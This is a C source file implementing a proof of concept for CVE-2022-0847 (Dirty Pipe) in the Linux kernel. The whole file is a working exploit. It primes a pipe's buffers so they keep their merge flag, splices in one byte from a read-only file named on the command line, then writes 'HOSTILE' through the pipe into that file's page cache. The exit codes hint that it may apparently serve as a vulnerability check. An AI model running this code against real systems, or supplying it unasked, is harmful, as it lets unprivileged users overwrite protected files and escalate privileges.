/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2022-0847: a pipe buffer that keeps its merge flag takes writes into the page cache. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	static char block[4096];
	int p[2];
	int fd = argc > 1 ? open(argv[1], O_RDONLY) : -1;
	off_t at = 1;

	if (fd < 0 || pipe(p) < 0)
		return 64;
	int size = fcntl(p[1], F_GETPIPE_SZ);

	for (int left = size; left > 0; left -= (int)sizeof(block))
		if (write(p[1], block, sizeof(block)) < 0)
			return 65;
	for (int left = size; left > 0; left -= (int)sizeof(block))
		if (read(p[0], block, sizeof(block)) < 0)
			return 66;
	if (splice(fd, &at, p[1], NULL, 1, 0) != 1) {
		printf("splice %s\n", strerrorname_np(errno));
		return 1;
	}
	return write(p[1], "HOSTILE", 7) == 7 ? 0 : 1;
}
